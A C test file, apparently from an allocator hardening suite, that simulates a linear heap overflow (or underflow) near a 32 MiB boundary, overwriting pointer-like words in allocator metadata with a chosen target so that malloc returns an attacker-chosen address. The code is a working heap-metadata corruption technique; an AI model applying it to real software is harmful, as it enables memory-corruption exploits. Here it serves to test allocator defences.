/* SPDX-License-Identifier: MIT */
/* A linear overflow out of the block that lies nearest below a multiple of 32 MiB, where hakmem and mimalloc keep what
 * they know, replaces the addresses there and leaves the rest: the bytes of a process of the same build. With BACKWARDS
 * 1 an underflow out of the block that lies nearest above. */
#include "tests/attack/attack.h"

static uintptr_t block;
static size_t size;

static uintptr_t distance(uintptr_t p) { return (BACKWARDS ? p : -p) % ATTACK_REACH_BYTES; }

/* 256 KiB, 4 MiB; each with the addresses at one place of each 256 bytes. */
static bool attempt(unsigned number) {
    for (size_t at = 8; at < (size_t)262144 << number / 32 * 4; at += 8) {
        const uintptr_t behind = block + (size + 7 & ~(size_t)7);
        volatile uint64_t *const word = (uint64_t *)(BACKWARDS ? block - at : behind + at - 8);
        const bool is_place = (uintptr_t)word / 8 % 32 == number % 32;
        const bool is_near = (*word ^ block) < ATTACK_REACH_BYTES || (*word ^ (uintptr_t)word) < ATTACK_REACH_BYTES;
        *word = is_place && is_near ? (uintptr_t)attack_target : *word;
    }
    attack_over();
    for (size_t other = 32; other < 2000; other *= 2) {
        if (attack_malloc_returns_target(other)) return true;
    }
    return attack_malloc_returns_target(size);
}

int main(int argc, char **argv) {
    (void)argc;
    size = attack_size(argv);
    for (size_t other = 32; other < 2000; other *= 2) attack_malloc(other);
    for (unsigned i = 0; i < (size > 1000000 ? 8 : 400); i++) {
        const uintptr_t p = (uintptr_t)malloc(size);
        if (block == 0 || distance(p) < distance(block)) block = p;
    }
    attack_try(64, attempt, "malloc returns an address that the attacker chose");
}
